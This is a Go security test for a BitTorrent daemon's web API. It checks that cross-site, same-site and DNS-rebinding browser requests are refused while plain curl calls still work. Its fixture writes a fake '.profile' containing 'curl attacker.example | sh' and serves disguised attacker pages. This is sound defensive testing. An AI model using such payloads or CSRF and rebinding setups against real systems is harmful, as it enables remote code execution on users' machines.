package browser

import (
	"bufio"
	"bytes"
	"crypto/rand"
	"encoding/base64"
	"encoding/json"
	"errors"
	"html/template"
	"mime/multipart"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/gobit/gobit/internal/metainfo"
	"github.com/gobit/gobit/internal/session"
	"github.com/gobit/gobit/internal/testutil"
)

// result is what the attacker's page recorded about one request.
type result struct {
	Kind   string `json:"kind"`
	Method string `json:"method"`
	URL    string `json:"url"`
	Host   string `json:"host"`
	Path   string `json:"path"`
	Type   string `json:"type"`   // fetch's response type: "opaque" for no-cors
	Status int    `json:"status"` // 0 when opaque
	Body   string `json:"body"`   // what the page could read
	Error  string `json:"error"`  // fetch's rejection
	Form   string `json:"form"`   // the enctype of a form post
	Loaded bool   `json:"loaded"` // the form's answer loaded in its frame
}

// pageRun is one page's RESULT line from drive.js.
type pageRun struct {
	Page    string   `json:"page"`
	URL     string   `json:"url"`
	Results []result `json:"results"`
}

func TestBrowserCannotDriveDaemon(t *testing.T) {
	br := newBrowserRun(t, "a daemon")
	curl := testutil.NeedProgram(t, "curl", "curl")
	tmp := br.tmp
	var (
		downloads  = filepath.Join(tmp, "downloads")
		victim     = filepath.Join(tmp, "home")           // where the attacker wants data written
		attackMove = filepath.Join(tmp, "attacker-moved") // where the attacker wants the torrent moved
		userMove   = filepath.Join(tmp, "user-moved")     // where the test moves it afterwards
		userAdd    = filepath.Join(tmp, "user-added")     // download_dir of the test's own adds
	)
	for _, d := range []string{downloads, victim} {
		if err := os.MkdirAll(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	// The victim's dotfile, which the attack's .torrent would overwrite.
	dotfile := filepath.Join(victim, ".profile")
	dotContent := []byte("# the user's own shell profile\n")
	if err := os.WriteFile(dotfile, dotContent, 0o644); err != nil {
		t.Fatal(err)
	}
	// The torrent the daemon seeds: its data is already in downloads.
	payload := make([]byte, 96<<10)
	rand.Read(payload)
	payloadPath := filepath.Join(downloads, "payload.bin")
	if err := os.WriteFile(payloadPath, payload, 0o644); err != nil {
		t.Fatal(err)
	}
	seedTorrent, seedMI, err := metainfo.Create(metainfo.CreateOptions{Path: payloadPath, PieceLength: 16 << 10})
	if err != nil {
		t.Fatal(err)
	}
	// The attacker's torrent: one file named like the victim's dotfile.
	evilSrc := filepath.Join(tmp, "evil", ".profile")
	if err := os.MkdirAll(filepath.Dir(evilSrc), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(evilSrc, []byte("curl attacker.example | sh\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	evilTorrent, _, err := metainfo.Create(metainfo.CreateOptions{Path: evilSrc})
	if err != nil {
		t.Fatal(err)
	}

	dm := br.daemon(t, "gobit", downloads)
	seed := dm.seed(t, seedTorrent)
	if want := seedMI.InfoHash.String(); seed.InfoHash != want {
		t.Fatalf("added hash %s, want %s", seed.InfoHash, want)
	}
	// The settings, without the free space (which other programs change).
	var settingsBefore session.Settings
	dm.getInto(t, "/api/v1/session", &settingsBefore)

	// The attacker's web server, on another port of 127.0.0.1. Chromium
	// reaches it as attacker.example (another site), as 127.0.0.1 (same
	// site, another origin), and it hands out the page that the DNS
	// rebinding run shows under the daemon's own origin.
	attackJS, err := os.ReadFile(filepath.Join(br.here, "attack.js"))
	if err != nil {
		t.Fatal(err)
	}
	attacker := newAttackerServer(t, attackJS)
	_, dport, _ := net.SplitHostPort(dm.addr)
	_, aport, _ := net.SplitHostPort(attacker.addr)
	common := map[string]any{
		"infoHash":   seed.InfoHash,
		"victimDir":  victim,
		"moveDir":    attackMove,
		"torrentB64": base64.StdEncoding.EncodeToString(evilTorrent),
	}
	page := func(name, prefix, mode string, targets ...string) string {
		cfg := map[string]any{"mode": mode, "hashPrefix": prefix, "targets": targets}
		for k, v := range common {
			cfg[k] = v
		}
		attacker.setPage("/"+name+".html", cfg)
		return "/" + name + ".html"
	}
	crossPath := page("cross-site", "c0", "no-cors",
		"http://127.0.0.1:"+dport, "http://localhost:"+dport, "http://rebind.example:"+dport)
	samePath := page("same-site", "5a", "no-cors", "http://127.0.0.1:"+dport)
	rebindPath := page("rebound", "eb", "cors", "http://rebind.example:"+dport)

	cfg := map[string]any{
		"hostRules": "MAP attacker.example 127.0.0.1, MAP rebind.example 127.0.0.1",
		"pages": []map[string]any{
			{"name": "cross-site", "url": "http://attacker.example:" + aport + crossPath},
			{"name": "same-site", "url": "http://127.0.0.1:" + aport + samePath},
			{"name": "rebound", "url": "http://rebind.example:" + dport + rebindPath,
				"fulfillFrom": "http://" + attacker.addr + rebindPath,
				// A rebound page came from the public internet, and
				// chromium's Local Network Access checks alone would stop
				// its requests to loopback. Browsers without those checks
				// (Firefox, Safari, older Chrome) send them, so they are
				// off for this page: the daemon must refuse the requests
				// itself.
				"args": []string{"--disable-features=LocalNetworkAccessChecks,BlockInsecurePrivateNetworkRequests"},
			},
		},
	}

	logStart := dm.logSize(t)
	out := br.runOK(t, "drive.js", cfg)
	runs := parseRuns(t, out)
	daemonLog := dm.logFrom(t, logStart)
	failed := false
	defer func() {
		if failed || t.Failed() {
			t.Logf("--- drive.js output ---\n%s", out)
			t.Logf("--- daemon log during the browser run ---\n%s", tail(daemonLog, 16<<10))
		}
	}()

	// 1. The browser really sent the requests, and the daemon refused them.
	refused := map[string]int{}
	for _, m := range refusedRE.FindAllStringSubmatch(daemonLog, -1) {
		refused[m[1]+" "+m[3]+m[2]]++
	}
	for _, m := range passedRE.FindAllStringSubmatch(daemonLog, -1) {
		if m[1] != "GET" && m[1] != "HEAD" && m[1] != "OPTIONS" {
			t.Errorf("a browser's state-changing request passed the checks: %s", m[0])
		}
	}
	want := map[string]int{}
	total := 0
	for _, name := range []string{"cross-site", "same-site", "rebound"} {
		run, ok := runs[name]
		if !ok {
			t.Fatalf("drive.js printed no result for page %s", name)
		}
		if len(run.Results) == 0 {
			t.Fatalf("page %s recorded no requests", name)
		}
		for _, r := range run.Results {
			if r.Kind == "script error" {
				t.Fatalf("page %s: attack script failed: %s", name, r.Error)
			}
			// Only no-cors POSTs and form posts are sent without a
			// preflight from another origin; from the rebound page, which
			// is same-origin, everything is.
			sent := r.Method == "POST" || name == "rebound"
			if sent {
				want[r.Method+" "+r.Host+r.Path]++
				total++
			}
			switch {
			case name == "rebound" && r.Form == "":
				if r.Status != http.StatusForbidden || !strings.Contains(r.Body, "--api-allowed-hosts") {
					t.Errorf("rebound page, %s: status %d %q %s, want 403 naming --api-allowed-hosts", r.Kind, r.Status, r.Body, r.Error)
				}
			case r.Form != "":
				if !r.Loaded {
					t.Errorf("page %s, %s: the form's answer never loaded (%s)", name, r.Kind, r.Error)
				}
			case r.Method == "POST":
				if r.Type != "opaque" || r.Error != "" {
					t.Errorf("page %s, %s: no-cors POST gave type %q, error %q; want an opaque answer", name, r.Kind, r.Type, r.Error)
				}
			default: // preflighted or CORS-read from another origin
				if r.Error == "" {
					t.Errorf("page %s, %s %s: the page could read the answer (%d %q); the daemon must send no CORS headers",
						name, r.Kind, r.Method, r.Status, r.Body)
				}
			}
		}
	}
	for k, n := range want {
		if refused[k] < n {
			t.Errorf("%s: the browser tried it %d times, the daemon logged %d refusals", k, n, refused[k])
		}
	}
	t.Logf("browser run: %d requests reached the daemon from the three pages, all refused with 403 (%d refusals logged)",
		total, len(refusedRE.FindAllStringIndex(daemonLog, -1)))

	// 2. Nothing was added, moved, paused or deleted.
	var list []session.Status
	dm.getInto(t, "/api/v1/torrents", &list)
	if len(list) != 1 || list[0].InfoHash != seed.InfoHash {
		var hashes []string
		for _, s := range list {
			hashes = append(hashes, s.InfoHash+" "+s.Name+" in "+s.SaveDir)
		}
		t.Errorf("after the browser run the daemon has %d torrents, want only the seeded one: %v", len(list), hashes)
	}
	d := dm.detail(t, seed.InfoHash)
	if d.SaveDir != downloads || d.State != session.StateSeeding {
		t.Errorf("seeded torrent: save dir %q state %q, want %q seeding", d.SaveDir, d.State, downloads)
	}
	if got, err := os.ReadFile(payloadPath); err != nil || !bytes.Equal(got, payload) {
		t.Errorf("the seeded data file changed or is gone: %v", err)
	}
	if got, err := os.ReadFile(dotfile); err != nil || !bytes.Equal(got, dotContent) {
		t.Errorf("the victim's dotfile changed: %q, %v", got, err)
	}
	if ents, err := os.ReadDir(victim); err != nil || len(ents) != 1 {
		t.Errorf("the victim directory holds %d entries (%v), want only .profile", len(ents), err)
	}
	if _, err := os.Stat(attackMove); !errors.Is(err, os.ErrNotExist) {
		t.Errorf("the attacker's move target exists: %v", err)
	}
	var settingsAfter session.Settings
	if dm.getInto(t, "/api/v1/session", &settingsAfter); settingsAfter != settingsBefore {
		t.Errorf("session settings changed: %+v, were %+v", settingsAfter, settingsBefore)
	}
	failed = t.Failed()

	// 3. The same requests sent like curl (no Origin, no Sec-Fetch-*) work.
	m1 := "magnet:?xt=urn:btih:" + strings.Repeat("1", 40) + "&dn=curl-compat"
	cout, err := exec.Command(curl, "--silent", "--show-error", "--max-time", "10", "--noproxy", "*",
		"--location", "localhost:"+dport+"/add/magnet",
		"--header", "Content-Type: text/plain",
		"--data", m1).CombinedOutput()
	if err != nil || !strings.Contains(string(cout), strings.Repeat("1", 40)) {
		t.Errorf("the original curl line: %v: %s", err, cout)
	}
	m2 := "magnet:?xt=urn:btih:" + strings.Repeat("2", 40) + "&dn=curl-dir"
	cout, err = exec.Command(curl, "--silent", "--show-error", "--max-time", "10", "--noproxy", "*",
		"--output", "/dev/null", "--write-out", "%{http_code}",
		"http://127.0.0.1:"+dport+"/api/v1/torrents?download_dir="+userAdd,
		"--header", "Content-Type: text/plain", "--data", m2).CombinedOutput()
	if err != nil || strings.TrimSpace(string(cout)) != "201" {
		t.Errorf("curl add with download_dir: %v: %s", err, cout)
	}
	m3 := "magnet:?xt=urn:btih:" + strings.Repeat("3", 40) + "&dn=multipart"
	var mp bytes.Buffer
	mw := multipart.NewWriter(&mp)
	mw.WriteField("uri", m3)
	mw.WriteField("download_dir", userAdd)
	mw.Close()
	if code, body := dm.do(t, "POST", "/api/v1/torrents", mw.FormDataContentType(), mp.Bytes()); code != http.StatusCreated {
		t.Errorf("multipart add: %d %s", code, body)
	}
	if code, body := dm.do(t, "POST", "/api/v1/torrents/"+seed.InfoHash+"/pause", "", nil); code != http.StatusNoContent {
		t.Errorf("pause: %d %s", code, body)
	}
	mv, _ := json.Marshal(map[string]string{"path": userMove})
	if code, body := dm.do(t, "POST", "/api/v1/torrents/"+seed.InfoHash+"/move", "", mv); code != http.StatusNoContent {
		t.Errorf("move without Content-Type: %d %s", code, body)
	}
	moved := filepath.Join(userMove, "payload.bin")
	testutil.WaitFor(t, 20*time.Second, "the data to arrive in "+userMove, func() bool {
		got, err := os.ReadFile(moved)
		return err == nil && bytes.Equal(got, payload)
	})
	if code, body := dm.do(t, "DELETE", "/api/v1/torrents/"+seed.InfoHash+"?delete_data=true", "", nil); code != http.StatusNoContent {
		t.Errorf("delete with data: %d %s", code, body)
	}
	testutil.WaitFor(t, 20*time.Second, "the data to be deleted", func() bool {
		_, err := os.Stat(moved)
		return errors.Is(err, os.ErrNotExist)
	})
	list = nil
	dm.getInto(t, "/api/v1/torrents", &list)
	got := map[string]bool{}
	for _, s := range list {
		got[s.InfoHash] = true
	}
	for _, h := range []string{strings.Repeat("1", 40), strings.Repeat("2", 40), strings.Repeat("3", 40)} {
		if !got[h] {
			t.Errorf("torrent %s added like curl is missing from the list", h)
		}
	}
	if got[seed.InfoHash] {
		t.Error("the deleted torrent is still listed")
	}
}

var (
	// refusedRE matches the daemon's debug record of a refused request.
	refusedRE = regexp.MustCompile(`msg="api request refused" method=(\S+) path=(\S+) host=(\S+)`)
	// passedRE matches the record of a request that passed the checks.
	passedRE = regexp.MustCompile(`msg="api request" method=(\S+) path=(\S+) status=(\d+)`)
)

// parseRuns reads drive.js's RESULT lines.
func parseRuns(t *testing.T, out []byte) map[string]pageRun {
	t.Helper()
	runs := map[string]pageRun{}
	sc := bufio.NewScanner(bytes.NewReader(out))
	sc.Buffer(make([]byte, 1<<20), 16<<20)
	for sc.Scan() {
		line, ok := strings.CutPrefix(sc.Text(), "RESULT ")
		if !ok {
			continue
		}
		var r pageRun
		if err := json.Unmarshal([]byte(line), &r); err != nil {
			t.Fatalf("drive.js: bad RESULT line %q: %v\n%s", line, err, out)
		}
		runs[r.Page] = r
	}
	return runs
}

// attackerServer serves the attacker's pages on 127.0.0.1.
type attackerServer struct {
	addr   string
	script []byte
	mu     sync.Mutex
	pages  map[string]map[string]any
}

var pageTmpl = template.Must(template.New("page").Parse(`<!doctype html>
<html><head><meta charset="utf-8"><title>totally harmless page</title></head>
<body><p>Nothing to see here.</p>
<script>const CFG = {{.CFG}};</script>
<script>{{.Script}}</script>
</body></html>
`))

func newAttackerServer(t *testing.T, script []byte) *attackerServer {
	t.Helper()
	a := &attackerServer{script: script, pages: map[string]map[string]any{}}
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	a.addr = ln.Addr().String()
	srv := &http.Server{Handler: a, ReadHeaderTimeout: 10 * time.Second}
	go srv.Serve(ln)
	t.Cleanup(func() { srv.Close() })
	return a
}

func (a *attackerServer) setPage(path string, cfg map[string]any) {
	a.mu.Lock()
	defer a.mu.Unlock()
	a.pages[path] = cfg
}

func (a *attackerServer) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	a.mu.Lock()
	cfg, ok := a.pages[r.URL.Path]
	a.mu.Unlock()
	if !ok {
		http.NotFound(w, r)
		return
	}
	w.Header().Set("Content-Type", "text/html; charset=utf-8")
	w.Header().Set("Cache-Control", "no-store")
	// html/template writes CFG as a JavaScript value and the script as
	// JavaScript text.
	err := pageTmpl.Execute(w, map[string]any{"CFG": cfg, "Script": template.JS(a.script)})
	if err != nil {
		http.Error(w, err.Error(), http.StatusInternalServerError)
	}
}
